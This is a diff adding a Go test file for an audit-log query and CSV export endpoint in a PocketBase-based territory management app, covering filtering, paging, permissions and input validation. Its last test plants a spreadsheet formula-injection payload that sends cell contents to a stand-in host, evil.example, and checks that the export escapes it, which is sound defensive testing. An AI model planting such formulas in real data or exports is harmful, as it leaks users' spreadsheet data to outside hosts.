@@ -0,0 +1,268 @@
+//go:build testdata
+
+package setup
+
+import (
+	"encoding/csv"
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/pocketbase/dbx"
+	"github.com/pocketbase/pocketbase/tests"
+)
+
+// seedAuditLogs writes one row into each log collection with a fixed created
+// time, plus a row for another congregation that must never be returned.
+func seedAuditLogs(t testing.TB, app *tests.TestApp) {
+	t.Helper()
+
+	rows := []struct {
+		table string
+		row   dbx.Params
+	}{
+		{"addresses_log", dbx.Params{
+			"id": "auditaddrlog001", "address": "testalpha01a001", "congregation": "testcongalpha01",
+			"territory": "testterralpha01", "map": "testmapalpha01a", "old_status": "not_done", "new_status": "done",
+			"changed_by": "Field Worker", "created": "2026-01-01 09:00:00.000Z", "updated": "2026-01-01 09:00:00.000Z",
+		}},
+		{"assignments_log", dbx.Params{
+			"id": "auditasgnlog001", "assignment": "testassignalpha01", "congregation": "testcongalpha01",
+			"map": "testmapalpha01a", "publisher": "Test Publisher", "type": "normal", "action": "assigned",
+			"changed_by": "testuseralpha01", "created": "2026-01-02 09:00:00.000Z", "updated": "2026-01-02 09:00:00.000Z",
+		}},
+		{"roles_log", dbx.Params{
+			"id": "auditrolelog001", "congregation": "testcongalpha01", "user": "testuseralpha03",
+			"old_role": "read_only", "new_role": "conductor", "action": "changed",
+			"changed_by": "testuseralpha01", "created": "2026-01-03 09:00:00.000Z", "updated": "2026-01-03 09:00:00.000Z",
+		}},
+		{"structure_log", dbx.Params{
+			"id": "auditstrclog001", "congregation": "testcongalpha01", "action": "code_deleted",
+			"target_type": "map", "target": "testmapalpha01a", "diff": `{"code":"15"}`,
+			"changed_by": "testuseralpha01", "created": "2026-01-04 09:00:00.000Z", "updated": "2026-01-04 09:00:00.000Z",
+		}},
+		{"roles_log", dbx.Params{
+			"id": "auditrolelogb01", "congregation": "testcongbeta001", "user": "testuserbeta001",
+			"old_role": "", "new_role": "administrator", "action": "granted",
+			"created": "2026-01-05 09:00:00.000Z", "updated": "2026-01-05 09:00:00.000Z",
+		}},
+	}
+
+	for _, r := range rows {
+		if _, err := app.DB().Insert(r.table, r.row).Execute(); err != nil {
+			t.Fatalf("seed %s: %v", r.table, err)
+		}
+	}
+}
+
+type auditPage struct {
+	Page       int `json:"page"`
+	PerPage    int `json:"per_page"`
+	TotalItems int `json:"total_items"`
+	Items      []struct {
+		Id         string         `json:"id"`
+		Source     string         `json:"source"`
+		Actor      string         `json:"actor"`
+		Action     string         `json:"action"`
+		EntityType string         `json:"entity_type"`
+		EntityId   string         `json:"entity_id"`
+		Details    map[string]any `json:"details"`
+	} `json:"items"`
+}
+
+func queryAudit(t *testing.T, mux http.Handler, token, body string) auditPage {
+	t.Helper()
+
+	res := postJSON(t, mux, "/audit/query", token, body)
+	if res.Code != http.StatusOK {
+		t.Fatalf("audit/query returned %d: %s", res.Code, res.Body)
+	}
+	var page auditPage
+	if err := json.Unmarshal(res.Body.Bytes(), &page); err != nil {
+		t.Fatal(err)
+	}
+	return page
+}
+
+func TestAuditQuery_MergesAndFilters(t *testing.T) {
+	adminToken, err := generateToken("admin@alpha.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	testApp := setupTestApp(t)
+	defer testApp.Cleanup()
+	seedAuditLogs(t, testApp)
+
+	mux := buildTestMux(t, testApp)
+
+	all := queryAudit(t, mux, adminToken, `{"congregation":"testcongalpha01","from":"2026-01-01","to":"2026-02-01"}`)
+	if all.TotalItems != 4 {
+		t.Fatalf("expected 4 events, got %d: %+v", all.TotalItems, all.Items)
+	}
+	wantOrder := []string{"structure", "role", "assignment", "address"}
+	for i, source := range wantOrder {
+		if all.Items[i].Source != source {
+			t.Errorf("item %d: want source %s, got %s", i, source, all.Items[i].Source)
+		}
+	}
+	address := all.Items[3]
+	if address.Actor != "Field Worker" || address.EntityId != "testalpha01a001" || address.Details["new_status"] != "done" {
+		t.Errorf("address event not normalised: %+v", address)
+	}
+	if role := all.Items[1]; role.Actor != "Alpha Admin" || role.Details["new_role"] != "conductor" {
+		t.Errorf("role event not normalised: %+v", role)
+	}
+
+	byActor := queryAudit(t, mux, adminToken, `{"congregation":"testcongalpha01","actor":"testuseralpha01","from":"2026-01-01","to":"2026-02-01"}`)
+	if byActor.TotalItems != 3 {
+		t.Errorf("actor filter: want 3, got %d", byActor.TotalItems)
+	}
+
+	byEntity := queryAudit(t, mux, adminToken, `{"congregation":"testcongalpha01","entity":"testmapalpha01a","sources":["structure"]}`)
+	if byEntity.TotalItems != 1 || byEntity.Items[0].Action != "code_deleted" {
+		t.Errorf("entity+source filter: got %+v", byEntity.Items)
+	}
+
+	window := queryAudit(t, mux, adminToken, `{"congregation":"testcongalpha01","from":"2026-01-02","to":"2026-01-03"}`)
+	if window.TotalItems != 1 || window.Items[0].Source != "assignment" {
+		t.Errorf("time window: got %+v", window.Items)
+	}
+
+	paged := queryAudit(t, mux, adminToken, `{"congregation":"testcongalpha01","from":"2026-01-01","to":"2026-02-01","page":2,"per_page":3}`)
+	if paged.TotalItems != 4 || len(paged.Items) != 1 || paged.Items[0].Source != "address" {
+		t.Errorf("page 2: got total %d items %+v", paged.TotalItems, paged.Items)
+	}
+}
+
+func TestAuditQuery_CSVExport(t *testing.T) {
+	adminToken, err := generateToken("admin@alpha.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	testApp := setupTestApp(t)
+	defer testApp.Cleanup()
+	seedAuditLogs(t, testApp)
+
+	mux := buildTestMux(t, testApp)
+
+	res := postJSON(t, mux, "/audit/query", adminToken, `{"congregation":"testcongalpha01","from":"2026-01-01","to":"2026-02-01","format":"csv"}`)
+	if res.Code != http.StatusOK {
+		t.Fatalf("csv export returned %d: %s", res.Code, res.Body)
+	}
+	if ct := res.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
+		t.Errorf("content type: got %q", ct)
+	}
+
+	records, err := csv.NewReader(res.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 5 {
+		t.Fatalf("expected header + 4 rows, got %d", len(records))
+	}
+	if strings.Join(records[0], ",") != "created,source,action,actor,actor_id,entity_type,entity_id,details" {
+		t.Errorf("unexpected header %v", records[0])
+	}
+	if records[1][1] != "structure" || !strings.Contains(records[1][7], `"code":"15"`) {
+		t.Errorf("unexpected first row %v", records[1])
+	}
+}
+
+func TestAuditQuery_Endpoint(t *testing.T) {
+	adminToken, err := generateToken("admin@alpha.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	conductorToken, err := generateToken("conductor@alpha.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	scenarios := []tests.ApiScenario{
+		{
+			Name:   "conductor cannot query the audit log",
+			Method: http.MethodPost,
+			URL:    "/audit/query",
+			Body:   strings.NewReader(`{"congregation":"testcongalpha01"}`),
+			Headers: map[string]string{
+				"Content-Type":  "application/json",
+				"Authorization": conductorToken,
+			},
+			TestAppFactory:  setupTestApp,
+			ExpectedStatus:  403,
+			ExpectedContent: []string{`"Administrator access required."`},
+		},
+		{
+			Name:   "unknown source is rejected",
+			Method: http.MethodPost,
+			URL:    "/audit/query",
+			Body:   strings.NewReader(`{"congregation":"testcongalpha01","sources":["messages"]}`),
+			Headers: map[string]string{
+				"Content-Type":  "application/json",
+				"Authorization": adminToken,
+			},
+			TestAppFactory:  setupTestApp,
+			ExpectedStatus:  400,
+			ExpectedContent: []string{`"Sources may only contain address, assignment, role or structure."`},
+		},
+		{
+			Name:   "malformed time bound is rejected",
+			Method: http.MethodPost,
+			URL:    "/audit/query",
+			Body:   strings.NewReader(`{"congregation":"testcongalpha01","from":"last tuesday"}`),
+			Headers: map[string]string{
+				"Content-Type":  "application/json",
+				"Authorization": adminToken,
+			},
+			TestAppFactory:  setupTestApp,
+			ExpectedStatus:  400,
+			ExpectedContent: []string{`"From must be an RFC 3339 timestamp or YYYY-MM-DD."`},
+		},
+	}
+
+	for _, scenario := range scenarios {
+		scenario.Test(t)
+	}
+}
+
+func TestAuditQuery_CSVExportEscapesFormulas(t *testing.T) {
+	adminToken, err := generateToken("admin@alpha.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	testApp := setupTestApp(t)
+	defer testApp.Cleanup()
+	mux := buildTestMux(t, testApp)
+
+	// updated_by is copied into addresses_log.changed_by, and it holds
+	// whatever name a link-id publisher was given.
+	payload := `=HYPERLINK("http://evil.example/?d="&A1,"Open")`
+	address, err := testApp.FindRecordById("addresses", "testalpha01a001")
+	if err != nil {
+		t.Fatal(err)
+	}
+	address.Set("status", "not_home")
+	address.Set("updated_by", payload)
+	if err := testApp.Save(address); err != nil {
+		t.Fatal(err)
+	}
+
+	res := postJSON(t, mux, "/audit/query", adminToken, `{"congregation":"testcongalpha01","sources":["address"],"format":"csv"}`)
+	if res.Code != http.StatusOK {
+		t.Fatalf("csv export returned %d: %s", res.Code, res.Body)
+	}
+	records, err := csv.NewReader(res.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("expected header + 1 row, got %d", len(records))
+	}
+	if got := records[1][3]; got != "'"+payload {
+		t.Errorf("actor cell should be escaped, got %q", got)
+	}
+}